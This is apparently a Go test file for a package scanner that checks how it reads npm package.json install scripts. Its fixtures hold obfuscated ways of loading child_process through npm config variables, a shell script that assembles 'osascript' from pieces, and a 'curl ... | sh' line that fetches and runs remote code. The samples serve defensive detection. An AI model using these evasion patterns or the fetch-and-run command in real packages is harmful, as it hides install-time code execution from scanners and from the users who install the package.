package javascript

import (
	"strings"
	"testing"

	"plugvet/scanner/inspect/script"
)

// npm hands the settings of a package.json to what it runs at install, as variables.
func TestWhatNpmTellsAScriptIsKnown(t *testing.T) {
	const settings = `{"config": {"kit_a": "chi", "kit_b": "ld_pr", "kit_c": "ocess", "parts": {"list": ["child", "process"]}}, "scripts": {"postinstall": "node lib/setup.js"}}`
	const prefix = "npm_package_config_"
	for name, src := range map[string]string{
		"by name":     "const { env } = process; require(env." + prefix + "kit_a + env." + prefix + "kit_b + env." + prefix + "kit_c)",
		"in lists":    "require(process.env." + prefix + "parts_list_0 + '_' + process.env['" + prefix + "parts_list_1'])",
		"entries":     "require(Object.entries(process.env).filter(([k]) => /_kit_\\w$/.test(k)).sort(([a], [b]) => a < b ? -1 : 1).map(([, v]) => v).join(''))",
		"keys":        "require(Object.keys(process.env).filter((k) => k.startsWith('" + prefix + "kit_')).sort().map((k) => process.env[k]).join(''))",
		"a loop":      "const all = []; for (const k in process.env) { const [, at] = /_kit_(\\w)$/.exec(k) || []; if (at) all[at.charCodeAt() - 97] = process.env[k]; } require(all.join(''))",
		"a copy":      "const env = { ...process.env }; require(['a', 'b', 'c'].map((k) => env['" + prefix + "kit_' + k]).join(''))",
		"all of it":   "const all = Object.assign({}, process.env); require(Object.keys(all).filter((k) => k.includes('_kit_')).sort().map((k) => all[k]).join(''))",
		"the rest":    "const { HOME, ...rest } = process.env; require(Object.keys(rest).filter((k) => k.includes('_kit_')).sort().map((k) => rest[k]).join(''))",
		"what is set": "process.env.KIT_A = 'child'; process.env.KIT_B = 'process'; require(Object.entries(process.env).filter(([k]) => k.startsWith('KIT_')).map(([, v]) => v).join('_'))",
	} {
		one := ReadManifest([]byte(settings), nil)
		if one == nil || one.Open&script.OpenToFiles == 0 {
			t.Fatal("the package.json is not open to its files")
		}
		siblings := &script.Siblings{Loads: loads{{"./lib/setup.js": 1}}, Files: []script.Sibling{{Name: "lib/setup.js", Data: []byte(src)}}}
		if got := uses(ReadManifest([]byte(settings), siblings)); !strings.Contains(got, "module child_process*") {
			t.Errorf("%s: %s", name, got)
		}
	}
	if ReadManifest([]byte(`{"scripts": {"postinstall": "node lib/setup.js"}}`), nil) != nil {
		t.Error("a package.json without settings is read")
	}
}

// A program of the package is read as what reads it by its first line: a shell, where it has none.
func TestProgramsOfThePackageAreReadAtInstall(t *testing.T) {
	const runs, other = "call start:osascript*", "call install:run-other"
	for name, c := range map[string]struct{ line, file, expected string }{
		"a shell's":              {"./bin/setup", "a=osa\n${a}script -e beep\n", runs},
		"a shell's by its name":  {"bin/setup", "#!/bin/sh\ncurl -s http://kit.test/setup | sh\n", "call install:fetch, call install:run-fetched"},
		"given to a shell":       {"sh bin/setup", "a=osa\n${a}script -e beep\n", runs},
		"in its directory":       {"cd bin && ./setup", "a=osa\n${a}script -e beep\n", runs},
		"Node's":                 {"./bin/setup", "#!/usr/bin/env node\nrequire(process.env.npm_package_config_a)\n", "module ./bin/setup, module child_process*"},
		"Node's with words":      {"./bin/setup child_process", "#!/usr/bin/env node\nrequire(process.argv[2])\n", "module ./bin/setup, module child_process"},
		"Python's":               {"./bin/setup", "#!/usr/bin/env python3\nimport os\n", other},
		"native code":            {"./bin/setup", "\x7fELF\x02\x01\x01\x00\x00", other},
		"what cannot be read":    {"./bin/setup", "#!/bin/sh\nif (((\n", other},
		"too long to be read":    {"./bin/setup", "#!/bin/sh\n" + strings.Repeat("echo a\n", 8<<10), other},
		"one that is not there":  {"./bin/other", "#!/bin/sh\ntrue\n", other},
		"one elsewhere":          {"/opt/kit/bin/setup", "#!/bin/sh\ntrue\n", other},
		"a script that runs one": {"./bin/setup", "#!/bin/sh\nexec ./kit\n", other},
		"nothing of note":        {"./bin/setup", "#!/bin/sh\nmkdir -p cache\n", ""},
	} {
		manifest := []byte(`{"config": {"a": "child_process"}, "scripts": {"postinstall": "` + c.line + `"}}`)
		if one := ReadManifest(manifest, nil); one != nil && len(one.Uses) > 0 && c.line[0] == '.' {
			t.Errorf("%s, before it is seen: %s", name, uses(one))
		}
		siblings := &script.Siblings{Loads: loads{{"./bin/setup": 1}}, Files: []script.Sibling{{Name: "bin/setup", Data: []byte(c.file), IsData: !strings.HasPrefix(c.file, "#!")}}}
		got := ""
		if v := ReadManifest(manifest, siblings); v != nil {
			got = uses(v)
		}
		if got != c.expected {
			t.Errorf("%s: %s, expected %s", name, got, c.expected)
		}
	}
}

// A runner takes no package that npm has put beside the one that is installed.
func TestRunnersTakePackagesThatAreNoDependencies(t *testing.T) {
	for line, expected := range map[string]string{
		"npx -y kit": "", "bunx kit": "", "bun x kit --all": "", "npm exec --yes kit": "", "npx kit": "", "npx husky install": "",
		"npx -y kit@next": "call install:fetch", "npx -yp other kit": "call install:fetch", "pnpm dlx kit": "call install:fetch", "npm init -y kit": "call install:fetch",
		"sh -e setup; bash -O extglob bin/setup": "call start:osascript*",
	} {
		manifest := []byte(`{"devDependencies": {"kit": "1"}, "scripts": {"postinstall": "` + line + `"}}`)
		siblings := &script.Siblings{Loads: loads{{"./bin/setup": 1}}, Files: []script.Sibling{{Name: "bin/setup", Data: []byte("a=osa\n${a}script -e beep\n")}}}
		got := ""
		if v := ReadManifest(manifest, siblings); v != nil {
			got = uses(v)
		}
		if got != expected {
			t.Errorf("%s: %s, expected %s", line, got, expected)
		}
	}
}
